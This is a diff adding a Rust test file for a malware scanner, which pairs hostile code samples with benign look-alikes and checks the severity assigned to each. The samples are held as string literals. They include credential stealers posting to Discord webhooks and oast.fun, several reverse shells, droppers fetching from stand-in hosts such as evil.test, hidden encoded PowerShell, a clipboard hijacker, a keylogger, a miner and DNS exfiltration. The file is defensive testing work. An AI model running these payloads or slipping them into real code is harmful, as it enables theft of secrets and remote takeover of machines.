@@ -1,0 +1,404 @@
+//! Positives and their legitimate neighbours side by side.
+
+use crate::analysis::anchors::ANCHORS;
+use crate::analysis::scam::ScamFinding;
+use crate::analysis::scanner::Scanner;
+use crate::result::Severity;
+use crate::tree::RepoFile;
+
+fn scan(path: &str, text: &str) -> Vec<ScamFinding> {
+    let f = RepoFile {
+        path: path.into(),
+        data: text.as_bytes().to_vec(),
+        size: text.len() as u64,
+        truncated: false,
+    };
+    let mut bin = Vec::new();
+    Scanner::global()
+        .scan_file(&f, &mut bin)
+        .map(|s| s.scam)
+        .unwrap_or_default()
+}
+
+/// The worst `scam.malware` finding of a file.
+fn malware(path: &str, text: &str) -> Option<ScamFinding> {
+    scan(path, text)
+        .into_iter()
+        .filter(|f| f.check == "scam.malware")
+        .max_by_key(|f| f.severity)
+}
+
+fn sev(path: &str, text: &str) -> Option<Severity> {
+    malware(path, text).map(|f| f.severity)
+}
+
+#[track_caller]
+fn clean(path: &str, text: &str) {
+    let f = scan(path, text);
+    assert!(
+        f.iter().all(|f| f.check != "scam.malware"),
+        "{path} should be clean: {f:#?}"
+    );
+}
+
+#[test]
+fn anchors_never_nest() {
+    for (i, (a, _)) in ANCHORS.iter().enumerate() {
+        for (j, (b, _)) in ANCHORS.iter().enumerate() {
+            assert!(i == j || !b.contains(a), "anchor {a:?} nests in {b:?}");
+        }
+    }
+}
+
+#[test]
+fn credential_theft_vs_aws_helper() {
+    let stealer = r#"import os, requests
+home = os.path.expanduser("~")
+data = {}
+data["aws"] = open(os.path.join(home, ".aws", "credentials")).read()
+data["ssh"] = open(home + "/.ssh/id_rsa").read()
+data["npm"] = open(home + "/.npmrc").read()
+requests.post("https://discord.com/api/webhooks/1234/abcd", json=data)
+"#;
+    let f = malware("src/pkg/util.py", stealer).expect("stealer");
+    assert_eq!(f.severity, Severity::Critical, "{f:?}");
+    assert!(
+        f.detail.contains("~/.aws/credentials (line 4)"),
+        "{}",
+        f.detail
+    );
+    assert!(
+        f.detail.contains("a Discord webhook (line 7)"),
+        "{}",
+        f.detail
+    );
+
+    // An AWS CLI helper reads the credentials file and calls AWS: not malware.
+    let helper = r#"import configparser, os, requests
+def profile(name):
+    cfg = configparser.ConfigParser()
+    cfg.read(os.path.expanduser("~/.aws/credentials"))
+    return cfg[name]
+def whoami_aws():
+    return requests.post("https://sts.amazonaws.com/", data={"Action": "GetCallerIdentity"})
+"#;
+    clean("awsutil/creds.py", helper);
+    // A dotfiles tool naming several stores and syncing somewhere: at most high.
+    let sync = r#"import os, shutil, requests
+FILES = ["~/.ssh/config", "~/.npmrc", "~/.gitconfig"]
+for f in FILES:
+    shutil.copy(os.path.expanduser(f), "backup/")
+requests.post(SYNC_URL, files={"f": open("backup.zip", "rb")})
+"#;
+    assert_ne!(sev("dotsync/sync.py", sync), Some(Severity::Critical));
+}
+
+#[test]
+fn env_file_trading_bot_is_clean() {
+    let bot = r#"from dotenv import load_dotenv
+import os, requests
+load_dotenv(".env")
+KEY = os.environ["BINANCE_KEY"]
+r = requests.post("https://api.binance.com/api/v3/order", headers={"X-MBX-APIKEY": KEY})
+"#;
+    clean("bot/trade.py", bot);
+    let raw = "const env = fs.readFileSync('.env', 'utf8');\nconst r = await fetch('https://api.binance.com/api/v3/account', { headers: { 'X-MBX-APIKEY': key } });\n";
+    clean("src/binance.js", raw);
+    // The same raw read sent to a webhook.
+    let thief = "const env = fs.readFileSync('.env', 'utf8');\nawait fetch('https://webhook.site/abc-123', { method: 'POST', body: env });\n";
+    assert_eq!(sev("src/init.js", thief), Some(Severity::Critical));
+}
+
+#[test]
+fn discord_bot_vs_host_data_to_webhook() {
+    let bot = r#"import requests, socket
+WEBHOOK = "https://discord.com/api/webhooks/111/xyz"
+def announce(price):
+    requests.post(WEBHOOK, json={"content": f"BTC is {price} (from {socket.gethostname()})"})
+"#;
+    clean("bot/notify.py", bot);
+    let recon = r#"import requests, getpass, socket
+info = {"user": getpass.getuser(), "host": socket.gethostname()}
+requests.post("https://discord.com/api/webhooks/111/xyz", json=info)
+"#;
+    let f = malware("pkg/__init__.py", recon).expect("recon");
+    assert_eq!(f.severity, Severity::Critical);
+    assert!(f.detail.contains("user name"), "{}", f.detail);
+    let user_only =
+        "import getpass, requests\nrequests.post('https://abc.oast.fun', data=getpass.getuser())\n";
+    assert_eq!(sev("pkg/a.py", user_only), Some(Severity::High));
+}
+
+#[test]
+fn env_harvesting() {
+    let js = "const https = require('https');\nconst req = https.request({ hostname: 'x1.oast.fun', method: 'POST' });\nreq.write(JSON.stringify(process.env));\nreq.end();\n";
+    assert_eq!(sev("index.js", js), Some(Severity::Critical));
+    let py = "import os, requests\nrequests.post('https://eo1x.m.pipedream.net', json=dict(os.environ))\n";
+    assert_eq!(sev("pkg/x.py", py), Some(Severity::Critical));
+    // The whole environment to an ordinary API, or a child process's env: nothing.
+    let debug = "await fetch('https://api.example-corp.com/debug', { method: 'POST', body: JSON.stringify(process.env) });\n";
+    clean("src/debug.js", debug);
+    let child = "const hook = 'https://discord.com/api/webhooks/1/a';\nspawn('node', ['x.js'], { env: { ...process.env, FOO: '1' } });\nconst u = process.env.USER;\n";
+    clean("src/run.js", child);
+}
+
+#[test]
+fn discord_token_grabber_vs_leveldb_user() {
+    let grab = r#"import os, re
+roaming = os.getenv("APPDATA")
+path = roaming + "\\discord\\Local Storage\\leveldb"
+for name in os.listdir(path):
+    for line in open(os.path.join(path, name), errors="ignore").readlines():
+        for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line):
+            tokens.append(token)
+"#;
+    assert_eq!(sev("grab.py", grab), Some(Severity::Critical));
+    let level = "const level = require('level');\nconst db = level('./data/leveldb');\n// a discord bot's cache\nconst discord = require('discord.js');\n";
+    clean("src/cache.js", level);
+}
+
+#[test]
+fn reverse_shells_vs_neighbours() {
+    let py = "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"10.0.0.1\",4444))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1)\nimport pty; pty.spawn(\"/bin/sh\")\n";
+    assert_eq!(sev("x.py", py), Some(Severity::Critical));
+    let sh = "#!/bin/bash\nbash -i >& /dev/tcp/93.184.216.34/4444 0>&1\n";
+    assert_eq!(sev("run.sh", sh), Some(Severity::Critical));
+    let nc = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f\n";
+    assert_eq!(sev("x.sh", nc), Some(Severity::Critical));
+    let health = "#!/bin/bash\ntimeout 1 bash -c 'cat < /dev/null > /dev/tcp/127.0.0.1/5432'\n";
+    clean("scripts/wait-for-db.sh", health);
+    let term = "import pty, os\ndef shell():\n    pty.spawn(os.environ.get('SHELL', '/bin/sh'))\n";
+    clean("termtool/local.py", term);
+}
+
+#[test]
+fn download_and_execute_vs_own_release_installer() {
+    let dropper = "import urllib.request, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'upd.exe')\nurllib.request.urlretrieve('http://45.61.136.10/upd.exe', p)\nos.startfile(p)\n";
+    let f = malware("pkg/core.py", dropper).expect("dropper");
+    assert_eq!(f.severity, Severity::Critical);
+    assert!(f.detail.contains("raw IP"), "{}", f.detail);
+    let ps = "import subprocess\nsubprocess.Popen(\"powershell -c IEX (New-Object Net.WebClient).DownloadString('https://cdn-update.xyz/a.ps1')\", shell=True)\n";
+    assert_eq!(sev("pkg/run.py", ps), Some(Severity::Critical));
+    let node = "const https = require('https');\nconst fs = require('fs');\nhttps.get('https://files.evil-cdn.top/x', r => r.pipe(fs.createWriteStream('/tmp/x')).on('finish', () => {\n  fs.chmodSync('/tmp/x', 0o755);\n  require('child_process').execFile('/tmp/x');\n}));\n";
+    assert_eq!(sev("lib/index.js", node), Some(Severity::Critical));
+
+    let stage2 = "import requests\npayload = requests.get(\"http://evil.test/stage2\").content\nexec(payload)\n";
+    assert_eq!(sev("pkg/s.py", stage2), Some(Severity::Critical));
+    let cfg = "import requests\ncfg = requests.get(CONFIG_URL).json()\nrun(cfg)\n";
+    clean("pkg/cfg.py", cfg);
+
+    // rustup/deno-style installer: its own GitHub release, checksum checked.
+    let install = r#"#!/bin/sh
+set -eu
+VERSION="v1.4.2"
+URL="https://github.com/acme/tool/releases/download/${VERSION}/tool-$(uname -m).tar.gz"
+curl -fsSL "https://github.com/acme/tool/releases/download/${VERSION}/tool-x86_64.tar.gz" -o /tmp/tool.tgz
+echo "$SHA256  /tmp/tool.tgz" | sha256sum -c -
+tar -xzf /tmp/tool.tgz -C "$HOME/.tool/bin"
+chmod +x "$HOME/.tool/bin/tool"
+"#;
+    clean("install.sh", install);
+    let setup = "#!/bin/bash\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\nsh -c \"$(curl -sSfL https://release.solana.com/v1.18.4/install)\"\n";
+    clean("scripts/setup.sh", setup);
+}
+
+#[test]
+fn encoded_powershell() {
+    let enc = "import subprocess\nsubprocess.Popen('powershell -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', shell=True)\n";
+    assert_eq!(sev("pkg/a.py", enc), Some(Severity::Critical));
+    let hidden = "Start-Process powershell -WindowStyle Hidden -ArgumentList \"-c iwr https://x.example/p.ps1 | iex\"\n";
+    assert_eq!(sev("tools/run.ps1", hidden), Some(Severity::Critical));
+    let build = "powershell -NoProfile -Command \"Get-ChildItem -Recurse | Remove-Item\"\nopenssl ec -in key.pem -ec -noout\n";
+    clean("scripts/clean.ps1", build);
+}
+
+#[test]
+fn clipboard_hijacker_vs_wallet_ui() {
+    let clipper = r#"import pyperclip, re, time
+BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
+while True:
+    s = pyperclip.paste()
+    if BTC.match(s):
+        pyperclip.copy("bc1qattackerattackerattackerattacker0000")
+    time.sleep(0.5)
+"#;
+    assert_eq!(sev("clip.py", clipper), Some(Severity::Critical));
+    let ui = r#"const ADDR = /^0x[a-fA-F0-9]{40}$/;
+export function Send() {
+  useEffect(() => { const t = setInterval(refreshBalance, 10000); return () => clearInterval(t); }, []);
+  const paste = async () => setTo(await navigator.clipboard.readText());
+  const copy = () => navigator.clipboard.writeText(myAddress);
+  const valid = ADDR.test(to);
+}
+"#;
+    clean("src/Send.jsx", ui);
+    // A clipper's loop body on its own: paste, regex test, copy back.
+    let body = r#"clipboard_data = pyperclip.paste()
+if re.search("^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", clipboard_data):
+    pyperclip.copy(self.address_btc)
+"#;
+    assert_eq!(sev("pkg/c.py", body), Some(Severity::Critical));
+    // A CLI wallet that copies its address and reads a pasted one for validation.
+    let cli = r#"import pyperclip, re
+def show(addr):
+    pyperclip.copy(addr)
+    print("copied")
+
+def ask():
+    input("paste the recipient, then press enter")
+    to = pyperclip.paste()
+    return re.fullmatch(r"0x[a-fA-F0-9]{40}", to)
+"#;
+    clean("wallet/cli.py", cli);
+    let copy_only =
+        "const copy = () => navigator.clipboard.writeText(address); // 0x[a-fA-F0-9]{40}\n";
+    clean("src/Copy.jsx", copy_only);
+}
+
+#[test]
+fn miners() {
+    let m = "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.supportxmr.com:3333', '-u', W, '--donate-level', '1'])\n";
+    assert_eq!(sev("pkg/m.py", m), Some(Severity::High));
+    assert_eq!(sev("setup.py", m), Some(Severity::Critical));
+    let dash = "POOLS = ['nanopool.org', '2miners.com', 'supportxmr.com']\ndef show(stats):\n    return stats['hashrate']\n";
+    clean("dashboard/pools.py", dash);
+}
+
+#[test]
+fn persistence_vs_backup_cron() {
+    let p = r#"import winreg, urllib.request, os
+urllib.request.urlretrieve("https://updates.example.net/svc.exe", os.environ["APPDATA"] + "\\svc.exe")
+k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
+winreg.SetValueEx(k, "svc", 0, winreg.REG_SZ, os.environ["APPDATA"] + "\\svc.exe")
+"#;
+    let found = scan("pkg/p.py", p);
+    assert!(
+        found.iter().any(|f| f.title == "Installs itself to run at startup" && f.severity == Severity::High),
+        "{found:#?}"
+    );
+    let backup = "#!/bin/sh\n(crontab -l; echo \"0 3 * * * /usr/local/bin/backup.sh\") | crontab -\ntar czf /tmp/b.tgz /srv && curl -T /tmp/b.tgz https://s3.example.com/bucket/\n";
+    clean("scripts/install-cron.sh", backup);
+}
+
+#[test]
+fn keylogger_vs_automation() {
+    let k = r#"from pynput import keyboard
+import requests
+log = []
+def on_press(key):
+    log.append(str(key))
+    if len(log) > 50:
+        requests.post("https://api.telegram.org/bot123:AA/sendMessage", data={"text": "".join(log)})
+with keyboard.Listener(on_press=on_press) as l:
+    l.join()
+"#;
+    assert_eq!(sev("k.py", k), Some(Severity::Critical));
+    let auto = "from pynput import keyboard, mouse\ndef on_press(key):\n    if key == keyboard.Key.f8:\n        mouse.Controller().click(mouse.Button.left)\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n";
+    clean("autoclicker/main.py", auto);
+}
+
+#[test]
+fn dns_exfiltration() {
+    let js = "const dns = require('dns');\nconst os = require('os');\ndns.lookup(os.hostname() + '.' + 'c9x.oast.fun', () => {});\n";
+    assert_eq!(sev("lib/x.js", js), Some(Severity::High));
+    let py = "import socket, getpass\nsocket.gethostbyname(getpass.getuser().encode().hex() + '.x.example.net')\n";
+    assert_eq!(sev("setup.py", py), Some(Severity::Critical));
+    let ok = "const dns = require('dns');\ndns.lookup('registry.npmjs.org', cb);\nconst h = os.hostname();\n";
+    clean("lib/net.js", ok);
+}
+
+#[test]
+fn pyarmor() {
+    let p = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59')\n";
+    assert_eq!(sev("pkg/__init__.py", p), Some(Severity::High));
+    assert_eq!(sev("pkg/sub/impl.py", p), Some(Severity::Medium));
+    clean(
+        "docs_gen/notes.py",
+        "# we used to ship with pytransform; no more\nx = 1\n",
+    );
+}
+
+#[test]
+fn whitespace_padding() {
+    let pad = format!(
+        "print('installing')\nx = 1{};__import__('builtins').exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
+        " ".repeat(220)
+    );
+    assert_eq!(sev("pkg/a.py", &pad), Some(Severity::High));
+    let table = format!("x = 1{}# aligned comment\nTABLE = 2\n", " ".repeat(220));
+    clean("pkg/b.py", &table);
+}
+
+#[test]
+fn zero_width_and_homoglyphs() {
+    let zw = "let is\u{200B}Admin = false;\nif (is\u{200B}Admin) {}\n";
+    assert_eq!(sev("src/auth.js", zw), Some(Severity::High));
+    let emoji = "const family = \"👨\u{200D}👩\u{200D}👧\";\n";
+    clean("src/emoji.js", emoji);
+    clean("src/bom.js", "\u{FEFF}const a = 1;\n");
+    let homo = "def p\u{0430}ypal_login(user):\n    return user\n";
+    assert_eq!(sev("pkg/login.py", homo), Some(Severity::High));
+    let russian = "print(\"Привет, мир\")  \nname = \"Dockerфайл\"\n";
+    clean("pkg/ru.py", russian);
+}
+
+#[test]
+fn steganographic_loader() {
+    let s = "from PIL import Image\nimg = Image.open('logo.png')\ncode = bytes(p[0] for p in img.getdata()).rstrip(b'\\0')\nexec(code)\n";
+    assert_eq!(sev("pkg/img.py", s), Some(Severity::Critical));
+    let ok = "from PIL import Image\nimg = Image.open('logo.png')\npixels = list(img.getdata())\nprint(len(pixels))\n";
+    clean("pkg/thumb.py", ok);
+}
+
+#[test]
+fn fixtures_in_tests_are_low() {
+    let fixture = r#"LOGIN = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
+def test_detects_stealer():
+    sample = open(LOGIN, "rb").read()
+    requests.post("https://discord.com/api/webhooks/1/abc", files={"f": sample})
+"#;
+    let f = malware("tests/test_password_manager.py", fixture).expect("fixture");
+    assert_eq!(f.severity, Severity::Low);
+    assert_eq!(
+        sev("src/pw.py", fixture),
+        Some(Severity::Critical),
+        "the same code outside tests"
+    );
+}
+
+#[test]
+fn setup_py_module_level() {
+    let evil = "from setuptools import setup\nimport subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', shell=True)\nsetup(name='x', version='1.0')\n";
+    let f = scan("setup.py", evil);
+    assert!(
+        f.iter().any(|f| f.check == "scam.install_scripts"
+            && f.severity == Severity::Critical
+            && f.detail.contains("line 3")),
+        "{f:#?}"
+    );
+    let fetch = "from setuptools import setup\nimport urllib.request\ntry:\n    urllib.request.urlopen('https://telemetry.example.org/ping?pkg=x')\nexcept Exception:\n    pass\nsetup(name='x')\n";
+    assert!(scan("setup.py", fetch)
+        .iter()
+        .any(|f| f.check == "scam.install_scripts" && f.severity == Severity::High));
+    let legit = r#"import os, subprocess
+from setuptools import setup, find_packages
+here = os.path.abspath(os.path.dirname(__file__))
+with open(os.path.join(here, "README.md")) as f:
+    long_description = f.read()
+exec(open("pkg/version.py").read())
+version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
+if os.sys.argv[-1] == "publish":
+    os.system("python setup.py sdist upload")
+setup(name="pkg", version=version, url="https://github.com/acme/pkg", install_requires=["requests"])
+"#;
+    assert!(
+        scan("setup.py", legit).is_empty(),
+        "{:#?}",
+        scan("setup.py", legit)
+    );
+    // Code inside a function runs only when called.
+    let in_def = "import subprocess\nfrom setuptools import setup\ndef build_docs():\n    subprocess.call('curl https://x.example/d.sh | sh', shell=True)\nsetup(name='x')\n";
+    assert!(scan("setup.py", in_def)
+        .iter()
+        .all(|f| f.check != "scam.install_scripts"));
+}
